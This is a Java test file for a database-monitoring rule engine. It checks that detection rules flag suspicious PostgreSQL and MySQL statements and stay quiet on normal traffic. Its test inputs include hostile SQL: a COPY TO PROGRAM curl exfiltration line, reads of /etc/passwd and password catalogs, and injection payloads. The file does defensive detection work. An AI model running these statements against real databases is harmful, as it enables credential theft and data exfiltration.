package io.tlsscope.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tlsscope.alerts.AlertEvent;
import io.tlsscope.alerts.ProcessInfo;
import io.tlsscope.conn.TcpTuple;
import io.tlsscope.protocol.ConnectionInfo;
import io.tlsscope.protocol.KeptBytes;
import io.tlsscope.protocol.QueryEvent;
import io.tlsscope.protocol.mysql.MySqlSession;
import io.tlsscope.protocol.postgres.PgSession;
import io.tlsscope.testsupport.RecordedCalls;
import java.net.InetSocketAddress;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The built-in pack over statements decoded from recorded real sessions (fixtures/pg, fixtures/mysql):
 * silent on pgbench and JDBC traffic, each rule firing on the statements it is about (recorded ones,
 * or a recorded event with another statement or outcome), once per suppression window, with the
 * variables of the statement that fired it.
 */
class RuleEngineTest {
    private static final TcpTuple PSQL_TUPLE = new TcpTuple(new InetSocketAddress("127.0.0.1", 40001), new InetSocketAddress("127.0.0.1", 5432));
    private static final ProcessInfo PSQL = new ProcessInfo(4242, "psql", "/usr/lib/postgresql/15/bin/psql");
    private static final ProcessInfo BACKEND = new ProcessInfo(4343, "postgres", "/usr/lib/postgresql/15/bin/postgres");

    /** Runs statements through an engine with the built-in pack, keeping what it raised. */
    private static final class Judge implements RuleEngine.Sink {
        final RuleEngine engine;
        final List<AlertEvent> alerts = new ArrayList<>();
        final Map<String, Long> counts = new TreeMap<>();

        Judge(Baseline baseline) throws RuleRejected {
            engine = new RuleEngine(baseline);
            engine.replace(new RuleCompiler().compileAll(RulesYaml.builtIn().rules()));
        }

        Judge() throws RuleRejected {
            this(new Baseline(null, 1000));
        }

        void judge(List<QueryEvent> events, ProcessInfo client, ProcessInfo server) {
            events.forEach(event -> engine.evaluate(QueryFacts.of(event, client, server, "db1", ""), this));
        }

        @Override
        public void fired(AlertEvent alert) {
            alerts.add(alert);
            counts.put(alert.id(), 1L);
        }

        @Override
        public void repeated(String alertId, long count, Instant last) {
            counts.put(alertId, count);
        }

        List<String> rules() {
            return alerts.stream().map(AlertEvent::rule).toList();
        }
    }

    @Test
    void theBuiltInPackCompiles() throws RuleRejected {
        List<CompiledRule> rules = new RuleCompiler().compileAll(RulesYaml.builtIn().rules());
        assertThat(rules).extracting(CompiledRule::id).containsExactly("ddl-from-interactive-client", "credential-catalog-read",
                "server-file-or-program-access", "bulk-export-statement", "bulk-export-window", "permission-denied-burst",
                "failed-login-burst", "injection-markers", "new-client-triple");
        assertThat(rules).allSatisfy(rule -> assertThat(rule.enabled()).isTrue());
    }

    @Test
    void pgbenchAndJdbcTrafficRaiseNothing() throws RuleRejected {
        Judge judge = new Judge();
        ProcessInfo pgbench = new ProcessInfo(5000, "pgbench", "/usr/lib/postgresql/15/bin/pgbench");
        for (String fixture : List.of("pgbench-extended-client", "pgbench-prepared-client")) {
            List<QueryEvent> events = postgres(fixture, "client", pgbench.comm());
            assertThat(events).hasSizeGreaterThan(5);
            judge.judge(events, pgbench, ProcessInfo.UNKNOWN);
        }
        List<QueryEvent> jdbc = mysql("connectorj-server", "server", "mariadbd");
        assertThat(jdbc).hasSizeGreaterThan(3);
        judge.judge(jdbc, new ProcessInfo(6000, "java", "/usr/lib/jvm/temurin-25-jdk-amd64/bin/java"),
                new ProcessInfo(6001, "mariadbd", "/usr/sbin/mariadbd"));
        assertThat(judge.alerts).isEmpty();
        assertThat(judge.engine.errors()).isZero();
    }

    @Test
    void ddlFromPsqlFiresOncePerWindowWithItsVariables() throws RuleRejected {
        Judge judge = new Judge();
        List<QueryEvent> events = postgres("psql-client", "client", "psql"); // CREATE TABLE, INSERT, SELECT, ...
        judge.judge(events, PSQL, BACKEND);
        judge.judge(List.of(with(events.get(4), "DROP TABLE items"), with(events.get(4), "GRANT SELECT ON items TO app")), PSQL, BACKEND);
        assertThat(judge.rules()).containsExactly("ddl-from-interactive-client");
        AlertEvent alert = judge.alerts.getFirst();
        assertThat(alert.query().statement()).isEqualTo("CREATE TABLE items (id int primary key, name text)");
        assertThat(alert.client()).isEqualTo(PSQL);
        assertThat(alert.server()).isEqualTo(BACKEND);
        assertThat(alert.key()).isEqualTo("postgres@127.0.0.1 psql");
        assertThat(alert.host()).isEqualTo("db1");
        assertThat(judge.counts.get(alert.id())).as("CREATE, DROP and GRANT in one window").isEqualTo(3);
    }

    @Test
    void ddlFromTheMariadbClientButNotFromAnApplication() throws RuleRejected {
        Judge cli = new Judge();
        cli.judge(mysql("mariadb-cli-client", "client", "mariadb"), new ProcessInfo(7000, "mariadb", "/usr/bin/mariadb"),
                ProcessInfo.UNKNOWN);
        assertThat(cli.rules()).containsExactly("ddl-from-interactive-client");
        assertThat(cli.alerts.getFirst().query().statement()).startsWith("CREATE DATABASE");
        assertThat(cli.counts.get(cli.alerts.getFirst().id())).as("CREATE DATABASE, CREATE TABLE, DROP DATABASE").isEqualTo(3);
        Judge application = new Judge();
        application.judge(mysql("mariadb-cli-client", "client", "java"), new ProcessInfo(7001, "java", "/usr/bin/java"),
                ProcessInfo.UNKNOWN);
        assertThat(application.alerts).isEmpty();
    }

    @Test
    void credentialCatalogsFileAccessAndInjectionMarkers() throws RuleRejected {
        QueryEvent select = postgres("psql-client", "client", "java").get(2); // SELECT id, name FROM items ORDER BY id
        ProcessInfo app = new ProcessInfo(100, "java", "/usr/bin/java");
        Map<String, String> expected = Map.of(
                "SELECT rolname, rolpassword FROM pg_authid", "credential-catalog-read",
                "select User, authentication_string from `mysql`.`user`", "credential-catalog-read",
                "COPY items TO PROGRAM 'curl -d @- http://x'", "server-file-or-program-access",
                "SELECT pg_read_file('/etc/passwd')", "server-file-or-program-access",
                "SELECT * FROM items INTO OUTFILE '/tmp/x'", "server-file-or-program-access",
                "SELECT * FROM items WHERE name = '' OR '1'='1'", "injection-markers",
                "SELECT id, name FROM items WHERE id = 1 or 1=1 --", "injection-markers",
                "SELECT id FROM items UNION SELECT usename FROM pg_catalog.pg_user", "injection-markers");
        expected.forEach((statement, rule) -> {
            try {
                Judge judge = new Judge();
                judge.judge(List.of(with(select, statement)), app, ProcessInfo.UNKNOWN);
                assertThat(judge.rules()).as(statement).containsExactly(rule);
            } catch (RuleRejected impossible) {
                throw new AssertionError(impossible);
            }
        });
        Judge quiet = new Judge();
        quiet.judge(List.of(with(select, "SELECT * FROM orders WHERE status = 'open' OR status = 'new'"),
                with(select, "SELECT username FROM users WHERE id = $1"), with(select, "COPY items TO STDOUT")), app, ProcessInfo.UNKNOWN);
        assertThat(quiet.alerts).isEmpty();
    }

    @Test
    void bulkExportInOneStatementAndOverAWindow() throws RuleRejected {
        QueryEvent select = postgres("psql-client", "client", "java").get(2);
        ProcessInfo app = new ProcessInfo(100, "java", "/usr/bin/java");
        Judge one = new Judge();
        one.judge(List.of(withRows(select, 250_000, Instant.EPOCH)), app, ProcessInfo.UNKNOWN);
        assertThat(one.rules()).containsExactly("bulk-export-statement");

        Judge window = new Judge();
        List<QueryEvent> pages = new ArrayList<>();
        for (int page = 0; page < 60; page++) {
            pages.add(withRows(select, 9_000, Instant.EPOCH.plusSeconds(page)));
        }
        window.judge(pages, app, ProcessInfo.UNKNOWN);
        assertThat(window.rules()).containsExactly("bulk-export-window");
        assertThat(window.alerts.getFirst().first()).as("the page that crossed 500000 rows").isEqualTo(Instant.EPOCH.plusSeconds(55));
    }

    @Test
    void burstsOfPermissionErrorsAndFailedLoginsFireAtTheThreshold() throws RuleRejected {
        QueryEvent failed = postgres("psql-client", "client", "java").get(3); // SELECT * FROM missing_table: 42P01
        ProcessInfo app = new ProcessInfo(100, "java", "/usr/bin/java");
        Judge judge = new Judge();
        List<QueryEvent> denied = new ArrayList<>();
        List<QueryEvent> logins = new ArrayList<>();
        for (int i = 0; i < 7; i++) {
            denied.add(withError(failed, "query", "SELECT * FROM payroll", "42501", Instant.EPOCH.plusSeconds(i)));
            logins.add(withError(failed, "login", "", "28P01", Instant.EPOCH.plusSeconds(i)));
        }
        judge.judge(denied.subList(0, 4), app, ProcessInfo.UNKNOWN);
        judge.judge(logins.subList(0, 4), app, ProcessInfo.UNKNOWN);
        assertThat(judge.alerts).as("four of each: below the threshold of five").isEmpty();
        judge.judge(denied.subList(4, 7), app, ProcessInfo.UNKNOWN);
        judge.judge(logins.subList(4, 7), app, ProcessInfo.UNKNOWN);
        assertThat(judge.rules()).containsExactly("permission-denied-burst", "failed-login-burst");
        assertThat(judge.alerts.getFirst().key()).isEqualTo("127.0.0.1 -> 127.0.0.1:5432");

        Judge spread = new Judge();
        List<QueryEvent> slow = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            slow.add(withError(failed, "query", "SELECT * FROM payroll", "42501", Instant.EPOCH.plusSeconds(20L * i)));
        }
        spread.judge(slow, app, ProcessInfo.UNKNOWN);
        assertThat(spread.alerts).as("ten errors, never five within a minute").isEmpty();
    }

    @Test
    void aNewClientTripleAfterLearningAndTheBaselineSurvivesARestart(@TempDir Path directory) throws RuleRejected {
        Path file = directory.resolve("baseline.json");
        QueryEvent select = postgres("psql-client", "client", "java").get(2);
        ProcessInfo app = new ProcessInfo(100, "java", "/usr/bin/java");
        ProcessInfo intruder = new ProcessInfo(200, "python3", "/usr/bin/python3.11");
        Baseline before = new Baseline(file, 1000);
        Judge learning = new Judge(before);
        learning.judge(List.of(withRows(select, 1, Instant.EPOCH)), app, ProcessInfo.UNKNOWN);
        learning.judge(List.of(withRows(select, 1, Instant.EPOCH.plus(Duration.ofHours(23)))), intruder, ProcessInfo.UNKNOWN);
        assertThat(learning.alerts).as("both seen while learning (24 h from the first statement)").isEmpty();
        before.save(); // what the service does every few seconds and at shutdown

        Judge restarted = new Judge(new Baseline(file, 1000));
        ProcessInfo psql = new ProcessInfo(300, "psql", "/usr/lib/postgresql/15/bin/psql");
        Instant later = Instant.EPOCH.plus(Duration.ofDays(2));
        restarted.judge(List.of(withRows(select, 1, later)), app, ProcessInfo.UNKNOWN);
        restarted.judge(List.of(withRows(select, 1, later)), intruder, ProcessInfo.UNKNOWN);
        assertThat(restarted.alerts).as("known from before the restart").isEmpty();
        restarted.judge(List.of(withRows(select, 1, later)), psql, ProcessInfo.UNKNOWN);
        assertThat(restarted.rules()).containsExactly("new-client-triple");
        assertThat(restarted.alerts.getFirst().key()).isEqualTo("/usr/lib/postgresql/15/bin/psql postgres postgres");
    }

    @Test
    void aBrokenRuleIsRejectedWithItsIdFieldPositionAndReason() {
        RuleCompiler compiler = new RuleCompiler();
        assertThatThrownBy(() -> compiler.compile(rule("bad-type", "rows > 'many'")))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> {
                    assertThat(rejected.ruleId()).isEqualTo("bad-type");
                    assertThat(rejected.field()).isEqualTo("condition");
                    assertThat(rejected.line()).isEqualTo(1);
                    assertThat(rejected.column()).isEqualTo(6);
                    assertThat(rejected.reason()).contains("no matching overload");
                });
        assertThatThrownBy(() -> compiler.compile(rule("typo", "usr == 'postgres'")))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> assertThat(rejected.reason()).contains("undeclared reference to 'usr'"));
        assertThatThrownBy(() -> compiler.compile(rule("not-bool", "rows + 1")))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> assertThat(rejected.reason()).contains("must be a bool expression"));
        assertThatThrownBy(() -> compiler.compile(rule("bad-regex", "user == 'x' && sql.matches('(unclosed')")))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> {
                    assertThat(rejected.column()).isEqualTo(28);
                    assertThat(rejected.reason()).contains("invalid regular expression '(unclosed'");
                });
        assertThatThrownBy(() -> compiler.compile(new RuleDefinition("w", null, "true", "urgent", null, null, null, null, null)))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> assertThat(rejected.field()).isEqualTo("severity"));
        assertThatThrownBy(() -> compiler.compile(new RuleDefinition("w", null, "true", null, null, null,
                new RuleDefinition.Suppress("ten minutes", null), null, null)))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> assertThat(rejected.field()).isEqualTo("suppress.window"));
    }

    @Test
    void aRulesFileThatDoesNotParseNamesTheLine() {
        assertThatThrownBy(() -> RulesYaml.parse("rules:\n  - id: a\n    conditon: 'true'\n"))
                .isInstanceOfSatisfying(RuleRejected.class, rejected -> {
                    assertThat(rejected.field()).isEqualTo("rules[0].conditon");
                    assertThat(rejected.line()).isEqualTo(3);
                });
    }

    @Test
    void aRuleThatFailsAtRunTimeIsCountedAndTheOthersGoOn() throws RuleRejected {
        RuleEngine engine = new RuleEngine(new Baseline(null, 10));
        RuleCompiler compiler = new RuleCompiler();
        engine.replace(List.of(compiler.compile(rule("divides", "100 / (rows - rows) > 1")), compiler.compile(rule("any", "true"))));
        List<AlertEvent> alerts = new ArrayList<>();
        engine.evaluate(QueryFacts.of(postgres("psql-client", "client", "psql").get(2), PSQL, BACKEND, "h", ""), new RuleEngine.Sink() {
            @Override
            public void fired(AlertEvent alert) {
                alerts.add(alert);
            }

            @Override
            public void repeated(String alertId, long count, Instant last) {
            }
        });
        assertThat(alerts).extracting(AlertEvent::rule).containsExactly("any");
        assertThat(engine.statsOf("divides").errors()).isEqualTo(1);
    }

    private static RuleDefinition rule(String id, String condition) {
        return new RuleDefinition(id, null, condition, null, null, null, null, null, null);
    }

    static List<QueryEvent> postgres(String fixture, String side, String comm) {
        ConnectionInfo connection = new ConnectionInfo(1, side.equals("client") ? PSQL.pid() : BACKEND.pid(), comm,
                side.equals("client") ? PSQL_TUPLE : new TcpTuple(PSQL_TUPLE.destination(), PSQL_TUPLE.source()), "postgresql", null, null, null);
        return RecordedCalls.replay("pg/" + fixture, side, 0, sink -> new PgSession(side, connection, sink, true, new KeptBytes(Long.MAX_VALUE)));
    }

    static List<QueryEvent> mysql(String fixture, String side, String comm) {
        TcpTuple tuple = new TcpTuple(new InetSocketAddress("127.0.0.1", 40002), new InetSocketAddress("127.0.0.1", 3306));
        ConnectionInfo connection = new ConnectionInfo(2, 7000, comm, side.equals("client") ? tuple : new TcpTuple(tuple.destination(), tuple.source()),
                "mysql", null, null, null);
        return RecordedCalls.replay("mysql/" + fixture, side, 0, sink -> new MySqlSession(side, connection, sink, true, new KeptBytes(Long.MAX_VALUE)));
    }

    static QueryEvent with(QueryEvent event, String statement) {
        return new QueryEvent(event.connection(), event.side(), event.command(), statement, event.parameters(), event.start(), event.end(),
                event.commandTag(), event.rows(), event.sqlState(), event.errorCode(), event.error(), event.transactionStatus(),
                event.notices(), event.copy(), event.columns(), event.statementBytes());
    }

    static QueryEvent withRows(QueryEvent event, long rows, Instant end) {
        return new QueryEvent(event.connection(), event.side(), event.command(), event.statement(), event.parameters(), end, end,
                "SELECT " + rows, rows, null, null, null, event.transactionStatus(), null, null, event.columns(), null);
    }

    static QueryEvent withError(QueryEvent event, String command, String statement, String sqlState, Instant end) {
        return new QueryEvent(event.connection(), event.side(), command, statement, List.of(), end, end, null, null, sqlState, null,
                "refused", event.transactionStatus(), null, null, null, null);
    }
}
